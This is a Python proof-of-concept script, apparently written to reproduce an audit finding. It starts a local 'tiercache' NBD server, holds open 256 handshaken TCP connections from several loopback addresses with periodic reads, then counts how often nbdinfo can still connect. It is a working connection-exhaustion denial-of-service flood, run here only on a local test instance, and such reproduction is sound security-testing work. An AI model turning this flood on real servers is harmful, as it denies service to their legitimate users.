#!/usr/bin/env python3
"""Finding 3's flood against the real binary: 8 loopback addresses x 32 TCP connections, each
sending a 4 KiB read every PERIOD s (replies read), then nbdinfo tries to connect TRIES times.
usage: flood.py TIERCACHE_BINARY PORT [TRIES] [PERIOD]"""
import os, select, socket, struct, subprocess, sys, tempfile, time
binary, port = sys.argv[1], int(sys.argv[2])
tries = int(sys.argv[3]) if len(sys.argv) > 3 else 14
period = float(sys.argv[4]) if len(sys.argv) > 4 else 10
d = tempfile.mkdtemp(prefix="flood-")
for name, mib in [("slow.img", 64), ("fast.img", 16)]:
    with open(os.path.join(d, name), "wb") as f:
        f.truncate(mib << 20)
subprocess.run([binary, "make", "--label", "data", "--bucket-size", "256k", "--backing",
                os.path.join(d, "slow.img"), "--cache", os.path.join(d, "fast.img")],
               check=True, stdout=subprocess.DEVNULL)
sock = os.path.join(d, "nbd.sock")
srv = subprocess.Popen([binary, "serve", "--cache", os.path.join(d, "fast.img"), "--backing",
                        os.path.join(d, "slow.img"), "--socket", sock,
                        "--tcp", f"127.0.0.1:{port}"], stderr=subprocess.DEVNULL)
time.sleep(1.5)
def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b
conns = []
for a in range(8):
    for i in range(32):
        s = socket.socket()
        s.bind((f"127.0.0.{10 + a}", 0))
        s.connect(("127.0.0.1", port))
        s.settimeout(10)
        try:
            recv_exact(s, 18)
            s.sendall(struct.pack(">I", 3) + b"IHAVEOPT" + struct.pack(">II", 1, 4) + b"data")
            recv_exact(s, 10)
            conns.append(s)
        except (EOFError, OSError):
            s.close()
print(f"{len(conns)} flood connections up")
def tick(conns):
    alive = []
    for s in conns:
        try:
            s.sendall(struct.pack(">IHHQQI", 0x25609513, 0, 0, 1, 0, 4096))
            recv_exact(s, 16 + 4096)
            alive.append(s)
        except (EOFError, OSError):
            s.close()
    return alive
ok = 0
for t in range(tries):
    conns = tick(conns)
    r = subprocess.run(["nbdinfo", "--size", f"nbd://127.0.0.1:{port}/data"],
                       capture_output=True, timeout=120)
    ok += r.returncode == 0
    time.sleep(period)
conns = tick(conns)
print(f"nbdinfo got through {ok} of {tries}; flood connections still up {len(conns)}")
srv.terminate(); srv.wait()
